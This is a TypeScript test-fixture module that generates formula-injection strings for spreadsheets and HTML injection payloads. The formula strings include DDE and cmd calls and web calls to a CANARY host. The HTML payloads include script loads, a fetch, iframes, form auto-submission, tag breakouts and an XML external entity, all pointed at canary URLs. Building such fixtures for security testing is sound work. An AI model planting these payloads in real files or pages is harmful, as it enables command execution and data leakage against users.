/** Texts that mean harm to whoever opens a file, and to a page. */

const formulas = [
  "1+1",
  "SUM(A1:A9)",
  'HYPERLINK("http://CANARY/x","click")',
  'WEBSERVICE("http://CANARY/x")',
  'IMPORTXML("http://CANARY/x","//a")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  "A1;=B1",
  'IMAGE("http://CANARY/x.png")',
  "1\n=2",
];
const leads = [
  ...["=", "+", "-", "@", "\t=", "\r=", "\0=", "\n=", " =", "\u00a0="],
  ...["\u200b=", "\ufeff=", "'=", '"=', "＝", "＋", "－", "＠", "=\u0000", "x;="],
];
/** 200: every formula behind everything that begins one. */
export const formulaPayloads: readonly string[] = leads.flatMap((lead) =>
  formulas.map((formula) => `${lead}${formula}`),
);

/** 50 that would load something, run something, or look like the end of what they stand in. */
export const htmlPayloads = (canary: { readonly http: string; readonly file: string }): readonly string[] => {
  const targets = [canary.http, canary.file];
  const each = (of: (url: string) => string): string[] => targets.map(of);
  return [
    ...each((url) => `<img src="${url}/img">`),
    ...each((url) => `<iframe src="${url}"></iframe>`),
    ...each((url) => `<object data="${url}"></object>`),
    ...each((url) => `<embed src="${url}">`),
    ...each((url) => `<link rel=stylesheet href="${url}">`),
    ...each((url) => `<style>@import url("${url}");*{background:url("${url}")}</style>`),
    ...each((url) => `<script src="${url}"></script>`),
    ...each((url) => `<script>fetch("${url}").then(r=>r.text()).then(t=>document.body.textContent=t)</script>`),
    ...each((url) => `<meta http-equiv=refresh content="0;url=${url}">`),
    ...each((url) => `<base href="${url}/"><img src=x>`),
    ...each((url) => `<svg><image href="${url}"/><use href="${url}#x"/></svg>`),
    ...each((url) => `<svg><foreignObject><iframe src="${url}"/></foreignObject></svg>`),
    ...each((url) => `<video src="${url}" poster="${url}" autoplay></video>`),
    ...each((url) => `<audio src="${url}" autoplay></audio>`),
    ...each((url) => `<form action="${url}"><input autofocus onfocus="this.form.submit()"></form>`),
    ...each((url) => `</td></tr></table><iframe src="${url}"></iframe>`),
    ...each((url) => `</bdi></td><td><img src='${url}'>`),
    ...each((url) => `--><img src="${url}"><!--`),
    ...each((url) => `</title></style></script><img src=${url}>`),
    ...each((url) => `<table background="${url}"><tr><td>`),
    ...each((url) => `<div style="background:url(${url});position:fixed;inset:0">`),
    ...each((url) => `<link rel=preload as=fetch href="${url}"><link rel=dns-prefetch href="${url}">`),
    ...each((url) => `<portal src="${url}"></portal><frameset><frame src="${url}"></frameset>`),
    ...each((url) => `<?xml-stylesheet href="${url}"?><!DOCTYPE x [<!ENTITY y SYSTEM "${url}">]>&y;`),
    ...each((url) => `<template shadowrootmode=open><img src="${url}"></template>`),
  ];
};
